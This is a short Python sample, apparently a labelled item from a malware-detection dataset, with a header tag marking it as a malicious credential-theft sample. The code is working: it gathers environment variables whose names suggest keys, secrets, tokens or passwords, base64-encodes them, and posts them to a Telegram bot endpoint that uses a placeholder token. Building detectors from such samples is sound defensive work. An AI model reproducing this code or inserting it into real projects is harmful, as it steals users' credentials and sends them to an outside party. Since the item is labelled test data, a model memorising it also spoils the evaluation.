# label: malicious family=creds techniques=T1552.001,T1567 lines=3,5
import os, json, base64, urllib.request
keys = {k: v for k, v in os.environ.items() if any(w in k for w in ("KEY", "SECRET", "TOKEN", "PASSWORD", "CREDENTIAL"))}
blob = base64.b64encode(json.dumps(keys).encode())
urllib.request.urlopen(urllib.request.Request("https://api.telegram.org/bot000000000:AAFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKE/sendMessage", data=b"chat_id=1&text=" + blob))
